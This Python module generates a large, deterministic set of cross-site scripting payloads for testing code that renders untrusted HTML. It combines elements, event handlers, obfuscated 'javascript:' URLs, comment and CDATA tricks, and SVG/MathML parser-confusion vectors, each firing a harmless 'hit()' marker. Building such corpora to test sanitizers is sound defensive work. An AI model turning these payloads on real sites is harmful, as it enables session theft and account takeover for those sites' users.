# ruff: noqa: E501  # payloads as attackers write them
"""Attacks on whoever shows HTML of strangers, made by combination: element × attribute × spelling × wrapper.

Each calls ``hit()`` where it succeeds. ``payloads()`` gives all of them, always in the same order.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from itertools import product

JS = "hit()"
ELEMENTS = [
    "a",
    "abbr",
    "address",
    "article",
    "audio",
    "b",
    "base",
    "bdo",
    "bgsound",
    "blockquote",
    "body",
    "br",
    "button",
    "canvas",
    "center",
    "col",
    "custom-x",
    "details",
    "div",
    "dl",
    "embed",
    "fieldset",
    "figure",
    "font",
    "form",
    "frameset",
    "h1",
    "hr",
    "html",
    "iframe",
    "image",
    "img",
    "input",
    "isindex",
    "keygen",
    "label",
    "li",
    "link",
    "listing",
    "marquee",
    "math",
    "menu",
    "meta",
    "nobr",
    "object",
    "option",
    "p",
    "picture",
    "plaintext",
    "pre",
    "q",
    "s",
    "samp",
    "section",
    "select",
    "span",
    "style",
    "sub",
    "svg",
    "table",
    "tbody",
    "td",
    "template",
    "textarea",
    "th",
    "title",
    "tr",
    "track",
    "u",
    "ul",
    "video",
    "xmp",
]
EVENTS = [
    "onload",
    "onerror",
    "onclick",
    "onmouseover",
    "onfocus",
    "onanimationstart",
    "ontoggle",
    "onpointerrawupdate",
    "onbeforematch",
    "onscrollend",
    "onbegin",
    "onresize",
    "onpageshow",
    "OnLoAd",
    "onfocusin",
    "ontransitionend",
]
URLS = [
    *(("a", "href"), ("a", "xlink:href"), ("a", "ping"), ("img", "src"), ("img", "srcset"), ("img", "longdesc"), ("img", "dynsrc")),
    *(("img", "lowsrc"), ("img", "data-src"), ("image", "src"), ("iframe", "src"), ("iframe", "srcdoc"), ("iframe", "data-src")),
    *(("embed", "src"), ("object", "data"), ("object", "codebase"), ("form", "action"), ("button", "formaction"), ("input", "formaction")),
    *(("input", "src"), ("video", "src"), ("video", "poster"), ("audio", "src"), ("source", "src"), ("source", "srcset"), ("track", "src")),
    *(("base", "href"), ("link", "href"), ("body", "background"), ("table", "background"), ("td", "background"), ("area", "href")),
    *(("blockquote", "cite"), ("q", "cite"), ("ins", "cite"), ("math", "href"), ("mi", "xlink:href"), ("maction", "actiontype")),
    *(("frame", "src"), ("meta", "content"), ("html", "manifest"), ("figure", "data-src"), ("amp-img", "src"), ("amp-iframe", "src")),
    *(("lite-youtube", "videoid"), ("bgsound", "src"), ("isindex", "action"), ("portal", "src"), ("command", "icon"), ("applet", "code")),
]  # fmt: skip
SPELLINGS = [
    f"javascript:{JS}",
    f"JaVaScRiPt:{JS}",
    f" javascript:{JS}",
    f"\x01javascript:{JS}",
    f"\tjav\tascript:{JS}",
    f"java\nscript:{JS}",
    f"java\rscript:{JS}",
    f"java\x00script:{JS}",
    f"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{JS}",
    f"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{JS}",
    f"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058{JS}",
    f"java&Tab;script&colon;{JS}",
    f"java&NewLine;script&colon;{JS}",
    f"javascript&#58{JS}",
    f"&#14;javascript:{JS}",
    f"javascript:/*--></title></style></textarea></script></xmp><svg/onload='{JS}'>*/{JS}",
    f"data:text/html,<script>{JS}</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{JS}'/>",
    f"vbscript:{JS}",
    f"livescript:{JS}",
    f"feed:javascript:{JS}",
    f"view-source:javascript:{JS}",
    f"blob:javascript:{JS}",
    f"//javascript:{JS}",
    f"https:javascript:{JS}",
    f"javascript://example.com/%0a{JS}",
    f"http://example.com/'onerror='{JS}",
    f'http://example.com/"onerror="{JS}',
    f"x 1x, javascript:{JS} 2x",
    f"`javascript:{JS}`",
    f"\u2028javascript:{JS}",
    f"java\u200bscript:{JS}",
    f"0;url=javascript:{JS}",
    f"<script>{JS}</script>",
]
CORES = [
    f"<script>{JS}</script>",
    f"<img src=x onerror={JS}>",
    f"<svg onload={JS}>",
    f"<svg><script>{JS}</script></svg>",
    f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
    f"<svg><a><animate attributeName=href values=javascript:{JS} /><text>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{JS}</script></svg>#x'>",
    f"<math><maction actiontype=statusline#http://x xlink:href=javascript:{JS}>x</maction></math>",
    f"<iframe srcdoc='<script>parent.{JS}</script>'></iframe>",
    f"<iframe src='javascript:parent.{JS}'></iframe>",
    f"<object data='javascript:{JS}'></object>",
    f"<details open ontoggle={JS}>x</details>",
    f"<input autofocus onfocus={JS}>",
    f"<video><source onerror={JS}></video>",
    f"<body onpageshow={JS}>",
    f"<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationstart={JS}>x</p>",
    f"<p style=\"background:url('javascript:{JS}')\">x</p>",
    f"<link rel=stylesheet href='data:,*%7bx:expression({JS})%7d'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{JS}'>",
    f"<form><button formaction=javascript:{JS}>x</button></form>",
    f"<base href='javascript:{JS}//'><a href=''>x</a>",
    f"<marquee onstart={JS}>x</marquee>",
    f"<audio src=x onerror={JS}></audio>",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f"<img/src=x/onerror={JS}//",
    f"<<img src=x onerror={JS}>",
    f"<img src=x onerror={JS} <p>",
    f'<img src="x`onerror={JS}`>',
    f"<img src=x\x0conerror={JS}>",
    f"<img src=x onerror\x00={JS}>",
    f"</p/onmouseover={JS}><br/onmouseover={JS}>",
    f"<!--><img src=x onerror={JS}>-->",
    f"<!---><img src=x onerror={JS}>-->",
    f"<!-- --!><img src=x onerror={JS}> -->",
    f"<![CDATA[<img src=x onerror={JS}>]]>",
    f"<?xml ><img src=x onerror={JS}>?>",
    f"<!DOCTYPE x [<!ENTITY y '<script>{JS}</script>'>]>&y;",
    f"<template><img src=x onerror={JS}></template>",
    f"<div><template shadowrootmode=open><img src=x onerror={JS}></template></div>",
    f"&lt;img src=x onerror={JS}&gt;",
    f"&amp;lt;script&amp;gt;{JS}&amp;lt;/script&amp;gt;",
]
RAW = [
    "style",
    "title",
    "textarea",
    "noscript",
    "noembed",
    "noframes",
    "xmp",
    "iframe",
    "script",
    "plaintext",
    "template",
    "select",
    "listing",
]
NAMESPACES = ["", "<svg>", "<math>", "<math><mtext>", "<svg><foreignObject>", "<svg><desc>", "<svg><title>",
              "<math><annotation-xml encoding='text/html'>", "<math><mtext><table><mglyph>", "<form><math><mtext></form><form><mglyph>",
              "<math><mi><malignmark>", "<table>", "<select>", "<svg><p>", "<math><mtext><svg><mtext>"]  # fmt: skip
CARRIERS = ["{}", "<p>before {} after</p>", "<table><tr><td>{}", "<table>{}", "<a href='x'>{}", "<pre>{}", "<ul><li>{}<li>x</ul>",
            "<h1>{}</h1>", "<details><summary>{}</summary></details>", "<ruby>x<rt>{}</ruby>", "<blockquote><p>{}", "<math><mtext>{}</mtext></math>",
            "<div title='{}'>x</div>", '<img alt="{}" src=x>', "<a href=\"https://x.example/?{}\">x</a>", "<b><i><p>{}</b></i>", "<code class='language-{}'>x</code>",
            "<p id='{}'>x</p>", "<video>{}</video>", "<noscript>{}</noscript>", "<object>{}</object>", "<button>{}</button>"]  # fmt: skip
_QUOTES = ["{}={}", "{}='{}'", '{}="{}"']


def payloads() -> Iterator[str]:
    """All combinations; more than 10,000."""
    for element, event in product(ELEMENTS, EVENTS):
        for quote in _QUOTES:
            attribute = quote.format(event, JS)
            yield f"<{element} {attribute} src=x style=x autofocus tabindex=1>x</{element}>"
    for (element, name), spelling in product(URLS, SPELLINGS):
        value = spelling.replace('"', "&quot;")
        yield f'<{element} {name}="{value}">x</{element}>'
        yield f"<{element}/{name}={spelling.replace(' ', '&#32;').replace('>', '&gt;')}>x</{element}>"
    for core, carrier in product(CORES, CARRIERS):
        yield carrier.replace("{}", core)
    for namespace, raw, carrier in product(NAMESPACES, RAW, ("{}", "<p>{}</p>", "<table><td>{}")):
        end = f"</{raw}>"
        image = f"<img src=x onerror={JS}>"
        yield carrier.replace("{}", f"{namespace}<{raw}><a id='{end}{image}'>")
        yield carrier.replace("{}", f"{namespace}<{raw}>{image}{end}")
        yield carrier.replace("{}", f'{namespace}<{raw}><!--{end}<img title="--&gt;{image}">')
        yield carrier.replace("{}", f"{namespace}<{raw}><p title='&lt;/{raw}&gt;{image}'>")


def some(count: int, seed: int = 28) -> list[str]:
    """A sample of the payloads, the same one for a seed."""
    return random.Random(seed).sample(list(payloads()), count)
